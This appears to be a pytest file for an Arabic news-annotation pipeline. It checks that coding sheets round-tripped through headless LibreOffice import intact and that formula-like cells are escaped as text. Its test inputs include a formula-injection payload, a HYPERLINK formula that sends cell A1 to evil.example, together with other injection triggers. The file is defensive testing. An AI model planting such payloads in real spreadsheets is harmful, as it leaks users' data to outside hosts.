"""A real spreadsheet program opens the annotation sheet, saves it, and the pipeline imports it.

LibreOffice (``soffice``, headless, a fresh profile per test) is the program that last saved
every file imported here: the workbook as .xlsx and as CSV, and the CSV sheet as CSV and as
.xlsx. Every row, code and text must come back, the Arabic and the formula-like sentences
included, and LibreOffice must evaluate those sentences as text, never as formulas.
Skipped only where LibreOffice is missing outside CI (``CI`` set: it must run).
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from analysis.frames.annotation_sheet import escape_formula, save_sheet
from analysis.frames.coding import code_corpus_sentences
from analysis.frames.lexicon import default_lexicon
from analysis.frames.sampling import design_path, draw_sample, read_hand_codes, read_sheet, write_sheet

LEXICON = default_lexicon()
SOFFICE = shutil.which("soffice")
CSV_FILTER = "Text - txt - csv (StarCalc):44,34,76"  # comma, double quote, UTF-8
FORMULA_SENTENCES = [
    '=HYPERLINK("http://evil.example/?"&A1,"قانون جديد لتنظيم تيك توك")',
    "=1+1",
    "- قال الوزير إن القانون ينظم التشهير على الإنترنت",
    "-الصحة النفسية لمستخدمي تيك توك",
    "+966 رقم الخط الساخن للدعم النفسي",
    "@تيك_توك تحذف المحتوى المخالف",
]

if SOFFICE is None and not os.environ.get("CI"):
    pytest.skip("needs LibreOffice (apt-get install libreoffice-calc): soffice is not on PATH", allow_module_level=True)


def soffice(profile: Path, out_dir: Path, convert_to: str, *files: Path, infilter: str | None = None) -> None:
    """Have LibreOffice open ``files`` and save them into ``out_dir`` as ``convert_to``."""
    assert SOFFICE is not None, "CI is set, so LibreOffice must be installed (.ci/run installs libreoffice-calc)"
    command = [SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore"]
    command += [f"--infilter={infilter}"] if infilter else []
    command += ["--convert-to", convert_to, "--outdir", str(out_dir), *map(str, files)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=180, check=False)
    for file in files:
        saved = out_dir / f"{file.stem}.{convert_to.split(':')[0]}"
        assert saved.exists(), f"LibreOffice did not save {saved.name}:\n{done.stdout}\n{done.stderr}"


def drawn_sheet(folder: Path, name: str) -> tuple[pd.DataFrame, Path]:
    """A sheet drawn by ``make sample`` from sentences that include formula-like ones."""
    texts = FORMULA_SENTENCES + [f"افتتح المعرض رقم {i} في المدينة" for i in range(6)]
    sentences = pd.DataFrame({"article_id": [f"a{i:02d}" for i in range(len(texts))], "sentence_id": 1, "text": texts})
    sheet, design = draw_sample(sentences, code_corpus_sentences(sentences, LEXICON), LEXICON, 20, seed=5)
    folder.mkdir(parents=True, exist_ok=True)
    return sheet, write_sheet(sheet, design, folder / name, LEXICON.names)


CODES = {  # what the coder writes, per frame, row by row (cycled), and what must be imported
    "mental_health": (["نعم", "لا", True, False, "yes", "no"], ["yes", "no", "yes", "no", "yes", "no"]),
    "regulation": (["لا", "لا", 1, 0, "No", "Yes"], ["no", "no", "yes", "no", "no", "yes"]),
}


def expected_codes(n_rows: int) -> dict[str, list[str]]:
    return {frame: [imported[row % len(imported)] for row in range(n_rows)] for frame, (_, imported) in CODES.items()}


def imported_as_coded(saved: Path, drawn: Path, sheet: pd.DataFrame) -> pd.DataFrame:
    """``read_hand_codes`` on a file LibreOffice saved (its design copied beside it), checked row by row."""
    shutil.copy(design_path(drawn), design_path(saved))
    codes = read_hand_codes(saved, LEXICON)
    assert len(codes) == len(sheet)
    assert codes["text"].tolist() == sheet["text"].tolist()  # Arabic and formula-like sentences, as drawn
    assert codes["sentence_hash"].tolist() == sheet["sentence_hash"].tolist()
    for frame, imported in expected_codes(len(sheet)).items():
        assert codes[frame].tolist() == imported, frame
    assert codes["reason"].tolist() == [f"سبب {row}" for row in range(len(sheet))]
    return codes


def test_a_workbook_coded_and_saved_by_libreoffice_imports_intact(tmp_path) -> None:
    sheet, drawn = drawn_sheet(tmp_path / "drawn", "sheet.xlsx")
    assert set(FORMULA_SENTENCES) <= set(sheet["text"])
    book = openpyxl.load_workbook(drawn)
    rows = book["sentences"]
    column = {cell.value: cell.column_letter for cell in rows[1]}
    for row in range(len(sheet)):
        for frame, (written, _) in CODES.items():
            rows[f"{column[frame]}{row + 2}"] = written[row % len(written)]
        rows[f"{column['reason']}{row + 2}"] = f"سبب {row}"
    check = book.create_sheet("check")  # formulas LibreOffice evaluates on the sentences
    for row in range(len(sheet)):
        check[f"A{row + 1}"] = f"=ISTEXT(sentences!{column['text']}{row + 2})"
        check[f"B{row + 1}"] = f"=LEN(sentences!{column['text']}{row + 2})"
    coded = tmp_path / "coded.xlsx"
    book.save(coded)
    profile, saved_xlsx, saved_csv = tmp_path / "profile", tmp_path / "lo_xlsx", tmp_path / "lo_csv"
    soffice(profile, saved_xlsx, "xlsx", coded)
    soffice(profile, saved_csv, f"csv:{CSV_FILTER}", coded, drawn)

    imported_as_coded(saved_xlsx / "coded.xlsx", drawn, sheet)
    imported_as_coded(saved_csv / "coded.csv", drawn, sheet)
    evaluated = list(openpyxl.load_workbook(saved_xlsx / "coded.xlsx", data_only=True)["check"].values)
    assert [istext for istext, _ in evaluated] == [True] * len(sheet)  # LibreOffice sees text, not formulas
    assert [length for _, length in evaluated] == [len(text) for text in sheet["text"]]
    assert read_sheet(saved_csv / "sheet.csv")["text"].tolist() == sheet["text"].tolist()  # "=1+1" is not 2


def test_a_csv_sheet_coded_and_saved_by_libreoffice_imports_intact(tmp_path) -> None:
    sheet, drawn = drawn_sheet(tmp_path / "drawn", "sheet.csv")
    assert "'=1+1" in drawn.read_text(encoding="utf-8-sig")  # escaped: LibreOffice would compute =1+1
    filled = read_sheet(drawn)
    for frame, (written, _) in CODES.items():
        filled[frame] = [str(written[row % len(written)]) for row in range(len(filled))]
    filled["reason"] = [f"سبب {row}" for row in range(len(filled))]
    coded = tmp_path / "coded.csv"
    save_sheet(filled, coded, LEXICON.names)  # as make sample writes cells: escaped
    profile, saved_csv, saved_xlsx = tmp_path / "profile", tmp_path / "lo_csv", tmp_path / "lo_xlsx"
    soffice(profile, saved_csv, f"csv:{CSV_FILTER}", coded, infilter=CSV_FILTER)
    soffice(profile, saved_xlsx, "xlsx", coded, infilter=CSV_FILTER)

    imported_as_coded(saved_csv / "coded.csv", drawn, sheet)
    evaluated = read_sheet(saved_xlsx / "coded.xlsx")  # what LibreOffice made of each cell: text, "'=1+1" not 2
    assert evaluated["text"].tolist() == [escape_formula(text) for text in sheet["text"]]
